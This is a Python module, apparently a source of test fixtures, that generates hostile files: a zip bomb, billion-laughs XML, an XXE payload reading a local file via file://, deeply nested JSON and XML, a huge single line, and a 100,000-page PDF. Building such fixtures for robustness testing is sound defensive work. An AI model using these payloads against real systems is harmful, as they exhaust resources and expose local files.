"""Hostile files, made on the spot: small to send, large or endless to read."""

from __future__ import annotations

import io
import struct
import zipfile


def zip_bomb(gigabytes: int = 10) -> bytes:
    """An archive whose directory names one member of 100 MB again and again: it unpacks to so many gigabytes."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.txt", bytes(100_000_000))
    whole = data.getvalue()
    start, end = whole.index(b"PK\x01\x02"), whole.index(b"PK\x05\x06")
    record, times = whole[start:end], gigabytes * 10
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, times, times, len(record) * times, start, 0)
    return whole[:start] + record * times + tail


def laughs(depth: int = 9) -> bytes:
    """The billion laughs: entities of entities, 3 GB of them."""
    entities = ['<!ENTITY l0 "lol">']
    entities += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth + 1)]
    return f'<?xml version="1.0"?><!DOCTYPE d [{"".join(entities)}]><d>&l{depth};</d>'.encode()


def external_entity(path: str) -> bytes:
    """XML that asks for a local file to be put into its text."""
    return f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{path}">]><d>before &x; after</d>'.encode()


def deep_json(depth: int = 10_000) -> bytes:
    return b"[" * depth + b"1" + b"]" * depth


def deep_xml(depth: int = 100_000) -> bytes:
    return b'<?xml version="1.0"?>' + b"<a>" * depth + b"deep" + b"</a>" * depth


def long_line(megabytes: int = 50) -> bytes:
    return b"All on one line, " * (megabytes * 10**6 // 17)


def pdf_of(pages: int = 100_000) -> bytes:
    """A PDF of so many pages, which share one content."""
    content = b"BT /F1 12 Tf 72 720 Td (A page like all others.) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>"
        % (pages, b" ".join(b"%d 0 R" % number for number in range(5, pages + 5))),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R"
    page += b" /Resources << /Font << /F1 4 0 R >> >> >>"
    objects += [page] * pages
    written = io.BytesIO()
    written.write(b"%PDF-1.4\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(written.tell())
        written.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = written.tell()
    written.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    written.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    written.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
    return written.getvalue()
